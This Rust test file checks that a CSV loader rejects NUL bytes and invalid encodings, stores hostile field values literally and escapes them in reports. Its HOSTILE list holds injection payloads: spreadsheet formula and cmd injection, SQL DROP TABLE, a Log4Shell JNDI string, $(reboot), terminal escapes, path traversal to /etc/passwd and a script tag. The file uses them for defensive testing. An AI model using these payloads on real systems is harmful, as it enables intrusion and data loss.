//! Fields that hold what no text should: bytes of another encoding, NUL, and what a terminal, a spreadsheet or a
//! database would obey.

use super::{items, items_with, load, plain};

#[test]
fn a_nul_byte_rejects_its_record_and_names_the_field() {
    let loaded = load(items, "a.csv", b"id,name,amount\n1,a\0b,1\n2,b,2\n3,\0,3\0\n\0\n4,\"d\0\",4\n5,e,5\n");
    loaded.ends(2, "loaded_with_rejects", "").counts(6, 2, 4, 0).rows(&["2|b|2.00", "5|e|5.00"]);
    let found = loaded.violations();
    let expected = ["2 name encoding: a\0b", "4 name encoding: \0", "4 amount encoding: 3\0"];
    assert_eq!(found.iter().take(3).map(|(shown, _)| shown).collect::<Vec<_>>(), expected);
    assert!(
        found.iter().filter(|(shown, _)| shown.contains("encoding")).all(|(_, m)| m == "holds a NUL byte")
    );
    assert!(loaded.text.contains(r#"line 2: name "a\u{0}b" holds a NUL byte"#), "{}", loaded.text);
}

#[test]
fn a_file_in_another_encoding_has_its_fields_named_one_by_one() {
    let latin = b"id,name,amount\n1,M\xfcller,1\n2,lamp,2\n3,K\xf6ln \x80,3\n\xe9,\"\xe0, b\",4\n";
    let loaded = load(items, "a.csv", latin);
    loaded.ends(2, "loaded_with_rejects", "").counts(4, 1, 3, 0).rows(&["2|lamp|2.00"]);
    loaded.rejects(&[
        "2 name encoding: M?ller",
        "4 name encoding: K?ln ?",
        "5 id encoding: ?",
        "5 name encoding: ?, b",
    ]);
    let message = "holds bytes that are not valid in the file's encoding";
    assert!(loaded.violations().iter().all(|(_, found)| found == message));
    let right = load(|| items_with("encoding = \"windows-1252\""), "a.csv", latin);
    right.ends(0, "loaded", "").rows(&["1|Müller|1.00", "2|lamp|2.00", "3|Köln €|3.00", "é|à, b|4.00"]);
}

#[test]
fn invalid_bytes_in_one_field_cost_that_record_only() {
    // A sequence cut short, a byte that never occurs, a surrogate, an overlong slash, and one beyond Unicode.
    for bad in [&b"\xe2\x82"[..], b"\xff", b"\xed\xa0\x80", b"\xc0\xaf", b"\xf4\x90\x80\x80"] {
        let content = [b"id,name,amount\n1,a,1\n2,x", bad, b"y,2\n3,\xe2\x82\xac,3\n"].concat();
        let loaded = load(items, "a.csv", content);
        loaded.ends(2, "loaded_with_rejects", "").counts(3, 2, 1, 0).rows(&["1|a|1.00", "3|€|3.00"]);
        let found = loaded.violations();
        assert!(found.len() == 1 && found[0].0.starts_with("3 name encoding: x?"), "{found:?}");
        assert!(!found[0].0.contains('\u{fffd}'));
    }
}

#[test]
fn invalid_bytes_do_not_hide_what_else_is_wrong_with_the_record() {
    let loaded = load(items, "a.csv", b"id,name,amount\n,\xff,much\n");
    loaded.rejects(&["2 id required: ", "2 name encoding: ?", "2 amount type: much"]);
}

#[test]
fn bytes_that_are_undefined_in_a_one_byte_encoding_are_rejected_too() {
    let loaded = load(
        || items_with("encoding = \"windows-1253\""),
        "a.csv",
        b"id,name,amount\n1,\xe1\xaa,1\n2,\xe1,2\n",
    );
    loaded.ends(2, "loaded_with_rejects", "").rejects(&["2 name encoding: α?"]).rows(&["2|α|2.00"]);
}

/// Texts that something somewhere would obey.
const HOSTILE: [&str; 14] = [
    "=HYPERLINK(\"\"http://x.example\"\",\"\"y\"\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "'); DROP TABLE items; --",
    "x\" OR \"1\"=\"1",
    "${jndi:ldap://x.example/a}",
    "{{7*7}} %s %n $(reboot) `reboot`",
    "\u{1b}[2J\u{1b}]0;title\u{7}",
    "\u{202e}gnp.exe",
    "\u{9b}31m",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "zero\u{feff}\u{200b}width",
];

/// A hostile text as a quoted field.
fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

#[test]
fn hostile_texts_are_loaded_letter_by_letter() {
    let records: String =
        HOSTILE.iter().zip(10..).map(|(text, id)| format!("{id},{},1\n", quoted(text))).collect();
    let loaded = load(items, "a.csv", format!("id,name,amount\n{records}"));
    loaded.ends(0, "loaded", "").counts(14, 14, 0, 0);
    let stored: Vec<String> =
        loaded.site.query("SELECT name FROM items ORDER BY id").into_iter().flatten().collect();
    // Only white space around a value is trimmed.
    assert_eq!(stored, HOSTILE);
    let id = loaded.object["delivery"].as_str().unwrap();
    for arguments in [&["show", id][..], &["show", "--json", id], &["status"], &["deliveries"]] {
        plain(&loaded.site.run(arguments).exits(0));
    }
}

#[test]
fn hostile_texts_in_rejects_are_shown_escaped_and_safe_in_a_spreadsheet() {
    let records: String =
        HOSTILE.iter().map(|text| format!("{},n,{}\n", quoted(text), quoted(text))).collect();
    let loaded = load(items, "a.csv", format!("id,name,amount\n{records}"));
    loaded.ends(2, "loaded_with_rejects", "").counts(14, 0, 14, 0);

    let values: Vec<String> =
        loaded.site.report(&loaded.object, "errors").1.into_iter().map(|row| row[4].clone()).collect();
    assert_eq!(values, HOSTILE, "programs get the values as they came");
    let (header, rows) = loaded.site.report(&loaded.object, "rejects");
    assert_eq!(header[..4], ["wharf_reject_id", "id", "name", "amount"]);
    for (row, text) in rows.iter().zip(HOSTILE) {
        let runs = text.starts_with(['=', '+', '-', '@', '\'', '\t', '\r']);
        let expected = if runs { format!("'{text}") } else { text.to_owned() };
        assert_eq!((&row[1], &row[3]), (&expected, &expected));
        assert!(row[4].starts_with("line ") && !row[4].contains(['\u{1b}', '\u{9b}', '\u{202e}']), "{row:?}");
    }
    let id = loaded.object["delivery"].as_str().unwrap();
    for arguments in [&["rejects", id][..], &["rejects", "--json", id], &["show", id], &["rejects"]] {
        plain(&loaded.site.run(arguments).exits(0));
    }
    let people = loaded.site.run(["rejects", id]);
    assert!(people.out.contains(r"\u{1b}[2J\u{1b}]0;title\u{7}"), "{people:?}");
}

#[test]
fn hostile_column_names_of_the_file_are_shown_escaped() {
    let header = "id,\u{1b}[31mname,=1+1,amount";
    let loaded = load(|| items_with("unexpected = \"reject\""), "a.csv", format!("{header}\n1,2,3,4\n"));
    loaded.ends(3, "refused", "header").says(&[r#"the column "\u{1b}[31mname" is not expected"#, "\"=1+1\""]);
    let loaded = load(items, "a.csv", format!("{header}\n,2,3,x\n"));
    loaded.ends(2, "loaded_with_rejects", "").rejects(&["2 id required: ", "2 amount type: x"]);
    assert_eq!(loaded.site.report(&loaded.object, "rejects").0[3], "'=1+1");
}
